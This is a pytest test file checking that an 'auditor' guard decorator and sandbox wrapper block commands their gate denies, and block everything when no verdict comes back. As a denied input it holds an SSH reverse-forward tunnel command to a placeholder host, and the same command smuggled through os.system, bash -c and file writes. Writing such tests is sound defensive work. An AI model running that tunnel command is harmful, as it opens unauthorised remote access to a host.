"""`auditor.guard` and `AuditedSandbox` let nothing run that the gate does not allow, nor anything without a verdict."""

from __future__ import annotations

import asyncio
import inspect
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from auditor import AuditedSandbox, Denied, guard
from auditor.gate.guarding import Gate
from tests.gate.guarded import TUNNEL, gate, served

__all__ = ["gate", "served"]  # fixtures


def test_a_function_runs_what_is_allowed_and_keeps_its_face(gate: Gate) -> None:
    ran = []

    @guard(gate=gate)
    def bash(command: str, timeout: int = 5) -> str:
        """Run a command."""
        ran.append(command)
        return "ran"

    assert bash("ls") == "ran"
    with pytest.raises(Denied, match="ssh-reverse-forward"):
        bash(command=TUNNEL)
    assert ran == ["ls"]
    assert (bash.__name__, bash.__doc__) == ("bash", "Run a command.")
    assert list(inspect.signature(bash).parameters) == ["command", "timeout"]


def test_an_async_function_and_one_with_names_of_its_own(gate: Gate) -> None:
    @guard(gate=gate, tool="my_shell")
    async def go(line: str) -> str:
        return line

    assert asyncio.run(go("ls")) == "ls"
    with pytest.raises(Denied):
        asyncio.run(go(TUNNEL))


def test_arguments_without_a_name_of_their_own(gate: Gate) -> None:
    """Keywords and positions that the signature does not name are judged too."""

    @guard(gate=gate)
    def call(*args: object, **kwargs: object) -> str:
        """Call something."""
        return "ran"

    assert call("ls") == "ran"
    assert call(command="ls") == "ran"
    for arguments in (("ssh", "-N", "-R", "2222:localhost:22", "ops@203.0.113.5"), (TUNNEL,)):
        with pytest.raises(Denied):
            call(*arguments)
    with pytest.raises(Denied):
        call(command=TUNNEL)


def test_no_argument_hides_another(gate: Gate) -> None:
    """Objects with fields of the same names, names that are given twice, and words after a first one."""

    @guard(gate=gate)
    def each(first: object, second: object = None, command: str = "ls") -> str:
        """Run one and the other."""
        return "ran"

    @guard(gate=gate)
    def named(command: str, /, **kwargs: str) -> str:
        """Run a command."""
        return "ran"

    @guard(gate=gate)
    def worded(program: str, *words: str) -> str:
        """Run a program."""
        return "ran"

    assert each(Command("ls"), Command("pwd")) == named("ls", command="pwd") == worded("ls", "-l") == "ran"
    acts: tuple[Callable[[], object], ...] = (
        lambda: each(Command("ls"), Command(TUNNEL)),
        lambda: each(Command(TUNNEL)),
        lambda: each({"request": Command(TUNNEL)}),
        lambda: named(TUNNEL, command="ls"),
        lambda: worded(*TUNNEL.split()),
        lambda: worded("python3", "-c", f"import os; os.system({TUNNEL!r})"),
    )
    for act in acts:
        with pytest.raises(Denied, match="ssh-reverse-forward"):
            act()


def test_a_session_is_remembered(gate: Gate) -> None:
    @guard(gate=gate)
    def write_file(path: str, content: str) -> None:
        """Write."""

    @guard(gate=gate)
    def bash(command: str) -> None:
        """Run."""

    write_file("/nowhere/a.txt", TUNNEL)
    with pytest.raises(Denied):
        bash("sh a.txt")


def test_code_is_judged_with_what_ran_before(gate: Gate) -> None:
    assert gate.judge_code(f"command = {TUNNEL!r}").is_allowed
    assert not gate.judge_code("import os\nos.system(command)").is_allowed


@dataclass
class Command:
    """A command as ROCK's sandboxes take it."""

    command: str | list[str]
    timeout: float = 5.0


class Files:
    """A part of a sandbox."""

    def write(self, path: str, content: str) -> str:
        """Write."""
        return path


class Sandbox:
    """A sandbox with the methods that real ones have."""

    files = Files()
    name = "mine"

    def execute(self, command: Command) -> str:
        """Run."""
        return "ran"

    async def run_in_session(self, action: Command) -> str:
        """Run."""
        return "ran"

    def run_code(self, code: str, language: str = "python") -> str:
        """Run."""
        return "ran"

    def exec(self, *argv: str) -> str:
        """Run."""
        return "ran"


def test_a_sandbox_runs_what_is_allowed(gate: Gate) -> None:
    sandbox = AuditedSandbox(Sandbox(), gate)
    assert sandbox.name == "mine"
    assert sandbox.execute(Command("ls")) == "ran"
    assert asyncio.run(sandbox.run_in_session(Command("ls"))) == "ran"
    assert sandbox.run_code("print(1)") == "ran"
    assert sandbox.files.write("/nowhere/a.md", "text") == "/nowhere/a.md"
    acts: tuple[Callable[[], object], ...] = (
        lambda: sandbox.execute(Command(TUNNEL)),
        lambda: sandbox.execute(Command(["bash", "-c", TUNNEL])),
        lambda: asyncio.run(sandbox.run_in_session(Command(TUNNEL))),
        lambda: sandbox.run_code(f"import os; os.system({TUNNEL!r})"),
        lambda: sandbox.files.write("/nowhere/a.sh", TUNNEL),
        lambda: sandbox.exec(TUNNEL),
    )
    for act in acts:
        with pytest.raises(Denied):
            act()


def test_without_a_verdict_nothing_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AUDITOR_RUNTIME_DIR", str(tmp_path))
    (tmp_path / "auditor").write_text("a file stands here", encoding="utf-8")
    for program in ("", "/nowhere/auditor", "/bin/false"):
        judgement = Gate(seconds=1.5, program=program).judge_command("ls")
        assert not judgement.is_allowed
        assert judgement.reason


def test_it_needs_no_package_of_others() -> None:
    code = (
        "import sys; sys.path.insert(0, sys.argv[1]); import auditor.gate.guarding; from auditor import guard; "
        "print([name for name in ('msgspec', 'libcst', 'typer', 'yaml', 'semgrep') if name in sys.modules])"
    )
    root = str(Path(__file__).parents[2])
    done = subprocess.run([sys.executable, "-S", "-c", code, root], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
